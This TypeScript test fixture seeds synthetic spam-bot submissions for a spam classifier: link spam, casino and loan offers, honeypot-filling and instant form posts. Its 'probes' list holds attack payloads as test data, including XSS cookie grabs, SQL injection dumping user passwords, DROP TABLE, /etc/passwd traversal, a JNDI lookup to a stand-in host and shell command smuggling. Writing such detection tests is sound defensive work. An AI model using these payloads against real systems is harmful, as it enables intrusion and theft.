import type { SubmissionInput } from '@wipeboard/shared';
import type { Arrival } from '../../../src/domain/spam/signals.ts';
import { agents, bare, browser, page, script, seeded, type Chance, type Trace } from './traces.ts';

const each = 110;

/** At least a thousand programs of twelve families, the same for the same seed. */
export function bots(seed = 45): Trace[] {
  const chance = seeded(seed);
  return Object.entries(families).flatMap(([family, make]) =>
    Array.from({ length: each }, (_, at) => {
      const { arrival, ...input } = make(chance, at);
      const whole = { key: chance.uuid(), revision: 1, final: true, kind: 'comment', context: page(chance) };
      return { family, arrival, input: { ...whole, ...input } as SubmissionInput };
    }),
  );
}

type Made = Partial<SubmissionInput> & { arrival: Arrival };

const families: Record<string, (chance: Chance, at: number) => Made> = {
  'links by BBCode, from a script': (chance) => ({
    context: bare(chance),
    text: `${chance.one(flattery)} [url=${site(chance)}]${chance.one(goods)}[/url] ${site(chance)}`,
    arrival: { headers: script(chance) },
  }),
  'BBCode from a driven browser': (chance) => ({
    text: `[url=${site(chance)}]${chance.one(goods)}[/url] ${chance.one(flattery)}`,
    arrival: { headers: browser(chance, chance.one(agents.chrome)) },
  }),
  'offers from a driven browser': (chance) => ({
    text: `${chance.one(offers)} ${chance.one([site(chance), account(chance)])}`,
    contact: { email: `${chance.letters(7, lower)}@${chance.letters(6, lower)}.com` },
    arrival: { headers: browser(chance, chance.one(agents.chrome)) },
  }),
  'link piles': (chance) => ({
    text: Array.from({ length: 3 + chance.below(6) }, () => `${chance.one(goods)} ${site(chance)}`).join(
      '\n',
    ),
    arrival: { headers: chance.one([script(chance), browser(chance, chance.one(agents.firefox))]) },
  }),
  'praise under an address': (chance) => ({
    context: bare(chance),
    text: `${chance.one(flattery)} ${chance.one(flattery)}`,
    contact: {
      name: `${chance.letters(6, lower)}-${chance.one(['loans', 'casino', 'deals'])}.${chance.one(['com', 'ru', 'top'])}`,
    },
    arrival: { headers: script(chance) },
  }),
  'form fillers': (chance) => ({
    kind: 'request',
    text: `${chance.one(flattery)}`,
    contact: { name: chance.one(['Kevin', 'Maria', 'Robertpes']) },
    arrival: {
      honeypot: true,
      secondsToFill: 1 + chance.below(40),
      headers: browser(chance, chance.one(agents.chrome)),
    },
  }),
  'posts without ever opening the form': (chance) => ({
    kind: 'request',
    text: `${chance.one(flattery)} ${chance.one(['', site(chance)])}`,
    arrival: { secondsToFill: null, headers: script(chance) },
  }),
  'forms sent in no time': (chance) => ({
    kind: 'request',
    text: `${chance.one(offers)} ${site(chance)}`,
    arrival: {
      secondsToFill: chance.next() * 2,
      headers: chance.one([script(chance), browser(chance, chance.one(agents.chrome))]),
    },
  }),
  'scanners for holes': (chance) => ({
    text: `${chance.letters(4, lower)}${chance.one(probes)}`,
    contact: { name: chance.one(probes).slice(0, 80) },
    arrival: { headers: script(chance) },
  }),
  'random letters': (chance) => ({
    text: scrambled(chance, 12 + chance.below(10)),
    contact: {
      name: scrambled(chance, 10 + chance.below(6)),
      email: `${chance.letters(9, lower)}@gmail.com`,
    },
    arrival: { headers: browser(chance, chance.one(agents.chrome)) },
  }),
  'ratings thrown by a script': (chance) => ({
    kind: 'rating',
    rating: { metric: 'csat', value: 1 },
    context: bare(chance),
    arrival: { headers: script(chance) },
  }),
  'the same words from many browsers': (chance) => ({
    text: 'Do not buy here. They took my money and nobody ever answered me!',
    arrival: { headers: browser(chance, chance.one([...agents.chrome, ...agents.safari])) },
  }),
};

const lower = 'abcdefghijklmnopqrstuvwxyz';

const site = (chance: Chance) =>
  `${chance.one(['http://', 'https://', 'https://www.'])}${chance.letters(5 + chance.below(8), lower)}.${chance.one(['ru', 'top', 'com', 'xyz', 'site'])}/${chance.letters(6, `${lower}0123456789`)}`;

const account = (chance: Chance) =>
  chance.one([
    `Telegram: @${chance.letters(8, lower)}`,
    `WhatsApp +${chance.letters(11, '123456789')}`,
    `t.me/${chance.letters(7, lower)}`,
  ]);

/** Case changes over and over, as in generated names. */
const scrambled = (chance: Chance, length: number) =>
  Array.from(
    { length: Math.ceil(length / 2) },
    () => chance.letters(1, lower) + chance.letters(1, lower.toUpperCase()),
  ).join('');

const flattery = [
  'Great article, I have bookmarked it and will be back.',
  'Thanks for sharing this, very useful information.',
  'I love your website, the design is awesome!',
  'Ich habe lange nach so einer Seite gesucht, vielen Dank.',
  'Отличный сайт, спасибо за информацию.',
  'موقع رائع جدا شكرا لكم',
];
const goods = [
  'best casino bonus',
  'viagra online',
  'cheap rolex',
  'payday loans',
  'онлайн казино',
  'SEO backlinks',
  'here',
];
const offers = [
  'Rank on Google first page! We sell high quality backlinks and SEO for cheap.',
  'Earn $5000 a day with our crypto trading signals, 100% guaranteed.',
  'Buy viagra and cialis online without prescription.',
  'Best online casino, 200 free spins. Click here to get your jackpot.',
  'Kredit ohne Schufa in 5 Minuten, Sofortkredit bis zu 50.000, passives Einkommen garantiert.',
  'Онлайн казино и заработок без вложений, криптовалюта.',
  'قرض فوري بدون ضمان وتداول العملات للجميع',
  'Instagram followers and web traffic: buy followers today.',
];
const probes = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  "1' UNION SELECT username, password FROM users--",
  '../../../../etc/passwd',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  "'; DROP TABLE users;--",
  '; cat /etc/hosts',
  "1; waitfor delay '0:0:5'--",
];
